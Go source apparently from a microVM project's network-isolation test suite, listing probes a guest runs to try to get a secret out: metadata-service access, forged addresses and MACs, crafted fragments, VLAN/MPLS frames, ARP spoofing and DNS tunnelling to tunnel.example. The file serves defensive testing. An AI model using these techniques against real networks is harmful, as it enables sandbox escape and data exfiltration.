package main

import (
	"fmt"
	"net"
	"net/netip"
	"os"

	"github.com/miekg/dns"
	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"

	"github.com/kilnvm/kiln/internal/guestnet"
)

// techniques lists what is tried, the plain ways first. Those that change the guest's own
// network come last.
func (p *prober) techniques() []technique {
	var list []technique
	for _, part := range [][]technique{p.plain(), p.places(), p.rawPackets(), p.rawFrames(), p.names(), p.disguises()} {
		list = append(list, part...)
	}
	return list
}

func (p *prober) plain() []technique {
	return []technique{
		{"tcp", connect(p.public, 80)},
		{"tcp to the port of names", connect(p.public, 53)},
		{"tcp to the port of the web", connect(p.public, 443)},
		{"udp", datagram(p.public, 7, 0)},
		{"udp to the port of names", datagram(p.public, 53, 0)},
		{"udp to the port of time", datagram(p.public, 123, 0)},
		{"udp in fragments", datagram(p.public, 7, 8000)},
		{"echo request", p.send(ip{src: guest(), dst: p.public, proto: unix.IPPROTO_ICMP, payload: icmpEcho([]byte(secret))})},
		{"large echo request", p.send(ip{src: guest(), dst: p.public, proto: unix.IPPROTO_ICMP, payload: icmpEcho(filled(1400))})},
	}
}

// places are destinations that must be denied whatever else is allowed.
func (p *prober) places() []technique {
	metadata := netip.AddrFrom4([4]byte{169, 254, 169, 254})
	gateway := guestnet.Gateway()
	return []technique{
		{"private address", connect(p.private, 80)},
		{"private address, udp", datagram(p.private, 7, 0)},
		{"metadata service", connect(metadata, 80)},
		{"metadata service, on the link", p.onLink(metadata, connect(metadata, 80))},
		{"host", connect(p.host, 80)},
		{"API of the node", connect(p.host, 7070)},
		{"host, udp", datagram(p.host, 7, 0)},
		{"sibling", connect(p.sibling, 80)},
		{"sibling, udp", datagram(p.sibling, 7, 0)},
		{"gateway", connect(gateway, 22)},
		{"API of the node by the gateway", connect(gateway, 7070)},
		{"multicast", datagram(netip.AddrFrom4([4]byte{224, 0, 0, 251}), 5353, 0)},
		{"broadcast", datagram(netip.AddrFrom4([4]byte{255, 255, 255, 255}), 7, 0)},
		{"loopback of the host", p.frame(guestnet.GatewayMAC(), guestnet.GuestMAC(), unix.ETH_P_IP,
			ip{src: guest(), dst: netip.AddrFrom4([4]byte{127, 0, 0, 1}), proto: unix.IPPROTO_UDP, payload: udpSegment(7, []byte(secret))}.bytes())},
	}
}

// onLink adds a route that says that addr is a neighbour.
func (p *prober) onLink(addr netip.Addr, then func() error) func() error {
	return func() error {
		route := &netlink.Route{LinkIndex: p.device.Attrs().Index, Dst: &net.IPNet{IP: addr.AsSlice(), Mask: net.CIDRMask(32, 32)}, Scope: netlink.SCOPE_LINK}
		if err := netlink.RouteReplace(route); err != nil {
			return err
		}
		neighbour := &netlink.Neigh{LinkIndex: p.device.Attrs().Index, State: netlink.NUD_PERMANENT, IP: addr.AsSlice(), HardwareAddr: guestnet.GatewayMAC()}
		if err := netlink.NeighSet(neighbour); err != nil {
			return err
		}
		err := then()
		_ = netlink.NeighDel(neighbour)
		_ = netlink.RouteDel(route)
		return err
	}
}

func (p *prober) rawPackets() []technique {
	to := func(proto byte, payload []byte) ip {
		return ip{src: guest(), dst: p.public, proto: proto, payload: payload}
	}
	udp := udpSegment(7, filled(64))
	list := []technique{
		{"fragment of 8 bytes first", p.send(
			ip{src: guest(), dst: p.public, proto: unix.IPPROTO_UDP, fragment: 0x2000, payload: udp[:8]},
			ip{src: guest(), dst: p.public, proto: unix.IPPROTO_UDP, fragment: 1, payload: udp[8:]})},
		{"second fragment only", p.send(ip{src: guest(), dst: p.public, proto: unix.IPPROTO_UDP, fragment: 100, payload: udp})},
		{"overlapping fragments", p.send(
			ip{src: guest(), dst: p.public, proto: unix.IPPROTO_UDP, fragment: 0x2000, payload: udp[:24]},
			ip{src: guest(), dst: p.public, proto: unix.IPPROTO_UDP, fragment: 1, payload: udp[8:]})},
		{"loose source route", p.send(ip{src: guest(), dst: guestnet.Gateway(), proto: unix.IPPROTO_UDP, payload: udp,
			options: append([]byte{1, 131, 7, 4}, p.public.AsSlice()...)})},
		{"record route", p.send(ip{src: guest(), dst: p.public, proto: unix.IPPROTO_UDP, payload: udp, options: []byte{7, 7, 4, 0, 0, 0, 0, 0}})},
		{"last hop", p.send(ip{src: guest(), dst: p.public, proto: unix.IPPROTO_UDP, payload: udp, ttl: 2})},
	}
	for name, proto := range map[string]byte{
		"protocol 2 (IGMP)": 2, "protocol 4 (IP in IP)": 4, "protocol 41 (IPv6 in IP)": 41, "protocol 47 (GRE)": 47, "protocol 50 (ESP)": 50,
		"protocol 132 (SCTP)": 132, "protocol 136 (UDP-Lite)": 136, "protocol 253 (experiment)": 253,
	} {
		payload := filled(64)
		switch proto {
		case 4:
			payload = to(unix.IPPROTO_UDP, udp).bytes()
		case 41:
			payload = ipv6([]byte(secret))
		}
		list = append(list, technique{name, p.send(to(proto, payload))})
	}
	const fin, syn, rst, ack = 1, 2, 4, 16
	for name, flags := range map[string]byte{
		"tcp without a handshake": ack, "tcp reset": rst, "tcp SYN and FIN": syn | fin, "tcp without flags": 0, "tcp SYN with data": syn,
	} {
		list = append(list, technique{name, p.send(to(unix.IPPROTO_TCP, tcpSegment(guest(), p.public, 80, flags, []byte(secret))))})
	}
	for name, src := range map[string]netip.Addr{
		"forged sender": netip.AddrFrom4([4]byte{203, 0, 113, 99}), "sender is the gateway": guestnet.Gateway(),
		"sender is a sibling": p.sibling, "sender is the destination": p.public, "sender is nobody": netip.AddrFrom4([4]byte{}),
	} {
		// As a frame: the kernel's raw socket would put in an address where there is none.
		list = append(list, technique{name, p.frame(guestnet.GatewayMAC(), guestnet.GuestMAC(), unix.ETH_P_IP,
			ip{src: src, dst: p.public, proto: unix.IPPROTO_UDP, payload: udp}.bytes())})
	}
	return list
}

func (p *prober) rawFrames() []technique {
	packet := ip{src: guest(), dst: p.public, proto: unix.IPPROTO_UDP, payload: udpSegment(7, []byte(secret))}.bytes()
	gateway, own := guestnet.GatewayMAC(), guestnet.GuestMAC()
	other := net.HardwareAddr{2, 0, 0, 0, 0, 9}
	everyone := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	tagged := append([]byte{0, 7, 8, 0}, packet...)
	claimed := netip.AddrFrom4([4]byte{169, 254, 0, 23})
	return []technique{
		{"a frame made by hand", p.frame(gateway, own, unix.ETH_P_IP, packet)},
		{"forged MAC", p.frame(gateway, other, unix.ETH_P_IP, packet)},
		{"frame to everyone", p.frame(everyone, own, unix.ETH_P_IP, packet)},
		{"IPv6 frame", p.frame(gateway, own, unix.ETH_P_IPV6, ipv6([]byte(secret)))},
		{"IPv6 frame to all nodes", p.frame(net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1}, own, unix.ETH_P_IPV6, ipv6([]byte(secret)))},
		{"VLAN", p.frame(gateway, own, unix.ETH_P_8021Q, tagged)},
		{"VLAN in VLAN", p.frame(gateway, own, unix.ETH_P_8021AD, append([]byte{0, 7, 0x81, 0}, tagged...))},
		{"PPPoE", p.frame(gateway, own, unix.ETH_P_PPP_SES, append([]byte{0x11, 0, 0, 1, 0, byte(len(packet) + 2), 0, 0x21}, packet...))},
		{"MPLS", p.frame(gateway, own, unix.ETH_P_MPLS_UC, append([]byte{0, 0, 0x11, 64}, packet...))},
		{"ARP for another address", p.frame(gateway, own, unix.ETH_P_ARP, arp(own, claimed))},
		{"ARP for the gateway", p.frame(everyone, own, unix.ETH_P_ARP, arp(own, guestnet.Gateway()))},
		{"ARP with another MAC", p.frame(gateway, other, unix.ETH_P_ARP, arp(other, guest()))},
		{"unknown protocol", p.frame(gateway, own, 0x88b5, filled(64))},
	}
}

// names asks the gateway's resolver to carry the secret.
func (p *prober) names() []technique {
	ask := func(network, name string, change func(*dns.Msg)) func() error {
		return func() error {
			query := new(dns.Msg).SetQuestion(name, dns.TypeTXT)
			if change != nil {
				change(query)
			}
			client := dns.Client{Net: network, Timeout: patience}
			_, _, _ = client.Exchange(query, guestnet.Gateway().String()+":53") // no answer is an answer
			return nil
		}
	}
	return []technique{
		{"name", ask("udp", secret+".tunnel.example.", nil)},
		{"name over tcp", ask("tcp", secret+".tunnel.example.", nil)},
		{"name of many labels", ask("udp", secret+".a.b.c.d.e.f.g.h.i.j.tunnel.example.", nil)},
		{"name in capitals", ask("udp", "KILN-EXFILTRATED-SECRET.TUNNEL.EXAMPLE.", nil)},
		{"name of another class", ask("udp", secret+".tunnel.example.", func(m *dns.Msg) { m.Question[0].Qclass = dns.ClassCHAOS })},
		{"two names in a question", ask("udp", "a.example.", func(m *dns.Msg) {
			m.Question = append(m.Question, dns.Question{Name: secret + ".tunnel.example.", Qtype: dns.TypeA, Qclass: dns.ClassINET})
		})},
		{"dynamic update", ask("udp", secret+".tunnel.example.", func(m *dns.Msg) { m.Opcode = dns.OpcodeUpdate })},
		{"zone transfer", ask("tcp", secret+".tunnel.example.", func(m *dns.Msg) { m.Question[0].Qtype = dns.TypeAXFR })},
	}
}

// disguises change the guest's own network and try the plain way again.
func (p *prober) disguises() []technique {
	return []technique{
		{"second address", func() error {
			addr := &netlink.Addr{IPNet: &net.IPNet{IP: net.IPv4(10, 208, 0, 77), Mask: net.CIDRMask(24, 32)}}
			if err := netlink.AddrAdd(p.device, addr); err != nil {
				return err
			}
			defer netlink.AddrDel(p.device, addr) //nolint:errcheck // the VM ends soon
			conn, err := net.DialUDP("udp4", &net.UDPAddr{IP: addr.IP}, net.UDPAddrFromAddrPort(netip.AddrPortFrom(p.public, 7)))
			if err != nil {
				return err
			}
			defer conn.Close()
			_, err = conn.Write([]byte(secret))
			return ignoreRefusal(err)
		}},
		{"IPv6 switched on", p.useIPv6},
		{"another MAC", func() error {
			if err := netlink.LinkSetHardwareAddr(p.device, net.HardwareAddr{2, 0, 0, 0, 0, 8}); err != nil {
				return err
			}
			defer netlink.LinkSetHardwareAddr(p.device, guestnet.GuestMAC()) //nolint:errcheck // the last technique
			return datagram(p.public, 7, 0)()
		}},
	}
}

func (p *prober) useIPv6() error {
	for _, which := range []string{"all", "eth0"} {
		if err := os.WriteFile("/proc/sys/net/ipv6/conf/"+which+"/disable_ipv6", []byte("0"), 0); err != nil {
			return err
		}
	}
	addr := &netlink.Addr{IPNet: &net.IPNet{IP: net.ParseIP("2001:db8::15"), Mask: net.CIDRMask(64, 128)}, Flags: unix.IFA_F_NODAD}
	if err := netlink.AddrReplace(p.device, addr); err != nil {
		return err
	}
	neighbour := &netlink.Neigh{
		LinkIndex: p.device.Attrs().Index, Family: netlink.FAMILY_V6, State: netlink.NUD_PERMANENT,
		IP: net.ParseIP("2001:db8::7"), HardwareAddr: guestnet.GatewayMAC(),
	}
	if err := netlink.NeighSet(neighbour); err != nil {
		return err
	}
	conn, err := net.Dial("udp6", "[2001:db8::7]:7")
	if err != nil {
		return fmt.Errorf("IPv6: %w", err)
	}
	defer conn.Close()
	_, err = conn.Write([]byte(secret))
	return err
}
